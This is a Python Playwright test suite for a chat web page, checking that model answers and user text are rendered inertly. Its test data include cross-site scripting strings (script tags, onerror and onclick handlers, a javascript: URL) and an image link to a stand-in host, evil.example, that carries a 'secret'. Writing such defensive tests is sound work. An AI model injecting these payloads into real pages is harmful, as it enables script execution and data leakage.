"""What a model says can run nothing, load nothing and break nothing. (`chat` fails on requests to elsewhere.)"""

import json
import time

import pytest
from playwright.sync_api import BrowserContext, expect

from browser.chat_page import Chat
from browser.process import Service
from browser.standin import NOW, event, standing_in, thread
from page import PageSettings


def hacked(chat: Chat) -> object:
    return chat.page.evaluate("window.hacked ?? null")


def test_markup_in_an_answer_is_shown_as_text(chat: Chat) -> None:
    chat.say("hostile")
    for _ in ("streamed", "loaded"):
        expect(chat.answer).to_contain_text("<script>window.hacked = 1</script>")
        expect(chat.answer).to_contain_text("Image: leak (https://evil.example/pixel.gif?q=secret)")
        assert chat.answer.locator("script, img, iframe, form, style, base, [onclick], [onerror], [style]").count() == 0
        for link in chat.answer.get_by_role("link").all():
            assert (link.get_attribute("href") or "").startswith(("http://", "https://", "mailto:"))
        for text in ("click me", "and me", "data"):
            chat.answer.get_by_text(text).first.click(position={"x": 2, "y": 2})
        assert hacked(chat) is None
        chat.page.reload()


def test_markup_in_the_users_words_and_titles_is_shown_as_text(chat: Chat) -> None:
    chat.say("title <img src=x onerror='window.hacked=1'>")
    expect(chat.page.locator("#threads [aria-current] bdi")).to_have_text("<img src=x onerror='window.hacked=1'>")
    chat.say("<b onclick='window.hacked=1'>bold</b>")
    expect(chat.page.locator("article.user").last).to_contain_text("<b onclick='window.hacked=1'>bold</b>")
    assert hacked(chat) is None


def test_widgets_sources_and_images_run_and_load_nothing(chat: Chat) -> None:
    for scene in ("gallery", "odd", "sources", "image https://evil.example/x.png", "image javascript:window.hacked=1"):
        chat.say(scene)
    expect(chat.page.locator("article.generated").first).to_contain_text("Image: https://evil.example/x.png")
    assert hacked(chat) is None


def test_an_image_is_drawn_from_what_is_kept_here_and_from_no_other_part_of_the_site(chat: Chat) -> None:
    asked: list[str] = []
    chat.page.on("request", lambda request: asked.append(request.url))
    chat.say("image /account/logout?told=secret")
    expect(chat.page.locator("article.generated").last).to_contain_text("Image: /account/logout?told=secret")
    assert not [url for url in asked if "logout" in url]


@pytest.mark.parametrize("kind", ["constructor", "toString"])
def test_a_component_named_like_a_part_of_the_language_is_shown(browser_context: BrowserContext, kind: str) -> None:
    widget = {"type": kind, "id": "x", "value": "What it says"}
    item = {"id": "w", "type": "widget", "thread_id": "t", "created_at": NOW, "widget": widget}
    with standing_in(PageSettings()) as service:
        service.raw_stream = event("thread.created", thread=thread()) + event("thread.item.done", item=item)
        chat = Chat(browser_context.new_page(), service.url).open()
        chat.begin("hello")
        expect(chat.widget).to_contain_text("What it says")
        assert chat.problems == []


def test_the_policy_would_stop_what_slipped_through(chat: Chat) -> None:
    refused = chat.page.evaluate(
        """() => {
            try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.hacked=1'>"); }
            catch (error) { return error.name; }
        }"""
    )
    assert refused == "TypeError"
    assert hacked(chat) is None
    chat.problems.clear()  # the browser has told of it


def test_an_answer_of_200_kb_is_drawn_and_the_page_stays_quick(chat: Chat, service: Service) -> None:
    began = time.monotonic()
    chat.say("long")
    expect(chat.answer.locator("p").last).to_contain_text("Lorem ipsum")
    assert len(service.items(chat.thread_id)[-1]["content"][0]["text"]) > 200_000
    assert time.monotonic() - began < 10
    chat.say("say still here")
    expect(chat.answer).to_contain_text("still here")


def test_markdown_nested_without_end_is_shown_somehow(chat: Chat) -> None:
    chat.say("deep")
    expect(chat.answer).to_contain_text("deep")
    expect(chat.answer).to_contain_text("after")
    chat.say("say still here")
    expect(chat.answer).to_contain_text("still here")


@pytest.mark.parametrize(
    "text",
    ["**a" * 70_000, "> " * 100_000, "- " + "a\n" * 100_000],
    ids=["emphasis", "quotes", "list"],
)
def test_markdown_that_is_slow_to_read_does_not_hold_the_page_up(browser_context: BrowserContext, text: str) -> None:
    content = [{"type": "output_text", "text": text, "annotations": []}]
    item = {"id": "a", "type": "assistant_message", "thread_id": "t", "created_at": NOW, "content": content}
    with standing_in(PageSettings()) as service:
        service.raw_stream = event("thread.created", thread=thread()) + event("thread.item.done", item=item)
        chat = Chat(browser_context.new_page(), service.url).open()
        chat.begin("hello")
        expect(chat.button("Copy answer")).to_be_visible()
        expect(chat.stop).to_be_hidden()
        service.raw_stream = None
        chat.begin("again")
        expect(chat.answer).to_contain_text("Received.")
        assert chat.problems == []


def test_text_of_other_directions_and_without_width_stays_in_its_place(chat: Chat) -> None:
    chat.say("strange")
    expect(chat.answer).to_contain_text("مرحبا")
    expect(chat.answer).to_contain_text("end")
    width = chat.page.evaluate("[document.documentElement.scrollWidth, innerWidth]")
    assert width[0] <= width[1]
    scroller = chat.page.locator(".scroller")
    assert scroller.evaluate("scroller => scroller.scrollWidth <= scroller.clientWidth")
    assert chat.button("Copy answer").last.bounding_box()["x"] < 400


@pytest.mark.parametrize(
    "stream",
    [
        b"data: {not json}\n\n",
        b"<html>an error page</html>",
        event("some.new.event", x=1) + event("thread.item.updated", item_id="nobody", update={"type": "odd"}),
        event("thread.item.done", item={"id": "x", "type": "some_new_item", "thread_id": "t", "created_at": "never"}),
        event("thread.item.done", item={"id": "x", "type": "assistant_message", "content": None}),
    ],
)  # fmt: skip
def test_an_unreadable_stream_breaks_nothing(browser_context: BrowserContext, stream: bytes) -> None:
    with standing_in(PageSettings()) as service:
        service.raw_stream = stream
        chat = Chat(browser_context.new_page(), service.url).open()
        chat.say("hello")
        service.raw_stream = None
        chat.message.fill("again")
        chat.message.press("Enter")
        expect(chat.answer).to_contain_text("Received.")


def test_comments_and_split_events_are_read_as_the_format_has_them(browser_context: BrowserContext) -> None:
    content = [{"type": "output_text", "text": "In one piece: ä€😀", "annotations": []}]
    item = {
        "id": "a",
        "type": "assistant_message",
        "thread_id": "t",
        "created_at": "2030-01-01T00:00:00Z",
        "content": content,
    }
    with standing_in(PageSettings()) as service:
        service.raw_stream = b": keep-alive\n".join(
            [
                event("thread.created", thread=thread()),
                b"",
                b"data: "
                + json.dumps({"type": "thread.item.done", "item": item}, ensure_ascii=False).encode()
                + b"\r\n\r\n",
            ]
        )
        chat = Chat(browser_context.new_page(), service.url).open()
        chat.begin("hello")
        expect(chat.answer).to_contain_text("In one piece: ä€😀")
        assert chat.problems == []
